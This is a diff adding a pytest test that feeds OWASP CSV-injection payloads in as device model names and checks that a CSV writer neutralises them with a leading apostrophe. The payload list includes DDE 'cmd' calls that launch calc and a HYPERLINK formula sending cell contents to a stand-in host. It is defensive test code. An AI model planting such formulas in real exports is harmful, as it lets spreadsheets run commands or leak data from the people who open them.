@@ -59,6 +59,30 @@ def test_text_a_spreadsheet_would_run_has_an_apostrophe_before_it(tmp_path: Path
     assert [[f"'{start}1+1"]] == written(tmp_path, TEXTS, text=[f"{start}1+1"])
 
 
+#: What makers of Devices may call their Models; OWASP, CSV injection.
+HOSTILE = [
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"M")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", "\0=1+1", 'x",=1+1', "x\r\n=1+1", "''=1+1",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", [name for name, file in FILES.items() if "model" in file.header or file.streamed])
+def test_no_model_name_becomes_a_formula_in_any_file_that_has_models(
+    month: SnapshotFolder, tmp_path: Path, name: str
+) -> None:
+    file, model = FILES[name], "device_model" if FILES[name].streamed else "model"
+    names = pl.DataFrame({model: HOSTILE})
+    first = month.table(name, MemberEntry("BUSY", "", "IS", "BUSY-IS")).head(1).drop(model).join(names, how="cross")
+    write_csv(first.lazy() if file.streamed else first, file, tmp_path / file.file_name)
+    with (tmp_path / file.file_name).open(encoding="utf-8", newline="") as lines:
+        rows = list(csv.DictReader(lines, strict=True))
+    runs = tuple("=+-@\t\r\0")
+    assert sorted(f"'{each}" if each.startswith(runs) else each for each in HOSTILE) == sorted(
+        row[model] for row in rows
+    )
+    assert not any(value.startswith(runs) for row in rows for value in row.values())
+
+
 def test_numbers_have_no_apostrophe(tmp_path: Path) -> None:
     assert [["1", "-0.250"]] == written(tmp_path, a_column(Kind.SECONDS, "rtt_s"), at=[1], rtt_ms=[-250])
 
